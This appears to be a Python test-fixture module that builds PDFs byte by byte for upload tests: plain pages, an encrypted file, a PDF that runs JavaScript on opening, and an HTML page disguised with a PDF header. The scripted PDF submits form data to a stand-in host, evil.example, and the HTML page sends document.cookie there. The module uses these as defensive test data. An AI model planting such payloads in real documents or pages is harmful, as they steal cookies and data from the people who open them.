"""Hand-made PDFs for the upload tests: plain pages, a script that runs on opening, an encrypted file.

Written byte by byte (with a correct cross-reference table) so that each test knows exactly what is
inside the file it sends.
"""
from __future__ import annotations

import hashlib

PASSWORD_PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def build_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """objects[i] is the body of object i+1; object 1 must be the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def pages_pdf(count: int, *, catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (),
              trailer_extra: bytes = b"", content: bytes = b"0 0 1 rg 100 100 300 500 re f") -> bytes:
    """`count` A4 pages, each with a blue rectangle (so a rendering shows something)."""
    first_page = 3
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
    for i in range(count):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
                       % (first_page + 2 * i + 1))
        objects.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    objects += list(extra_objects)
    return build_pdf(objects, trailer_extra)


def javascript_pdf() -> bytes:
    """One page whose /OpenAction runs JavaScript in any reader that runs scripts."""
    script_obj = 5                              # after catalog, pages, page, contents
    return pages_pdf(1, catalog_extra=b"/OpenAction %d 0 R /Names << /JavaScript << /Names [(x) %d 0 R] >> >> "
                     % (script_obj, script_obj),
                     extra_objects=(b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); "
                                    b"this.submitForm('http://evil.example/'); ) >>",))


def _rc4(key: bytes, data: bytes) -> bytes:
    s, j = list(range(256)), 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def encrypted_pdf(user_password: bytes = b"") -> bytes:
    """One page under the standard security handler (revision 2, RC4 40-bit). With an empty user
    password every reader opens it without asking; with one, only who knows it."""
    file_id = bytes(range(16))
    owner = hashlib.md5(b"owner").digest() * 2                   # any 32 bytes will do for O
    permissions = -4
    padded = (user_password + PASSWORD_PADDING)[:32]
    key = hashlib.md5(padded + owner + permissions.to_bytes(4, "little", signed=True) + file_id).digest()[:5]
    user_entry = _rc4(key, PASSWORD_PADDING)
    encrypt = (b"<< /Filter /Standard /V 1 /R 2 /O <" + owner.hex().encode() + b"> /U <"
               + user_entry.hex().encode() + b"> /P %d >>" % permissions)
    # The page has no content stream, so no string or stream needs encrypting for the file to be valid.
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
               encrypt]
    return build_pdf(objects, b"/Encrypt 4 0 R /ID [<" + file_id.hex().encode() + b"> <"
                     + file_id.hex().encode() + b">] ")


def html_with_pdf_header() -> bytes:
    """A web page whose first bytes say %PDF-: a browser sniffing content would run its script."""
    return (b"%PDF-1.4\n<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script>"
            b"<h1>Aadhaar</h1></body></html>\n%%EOF\n")
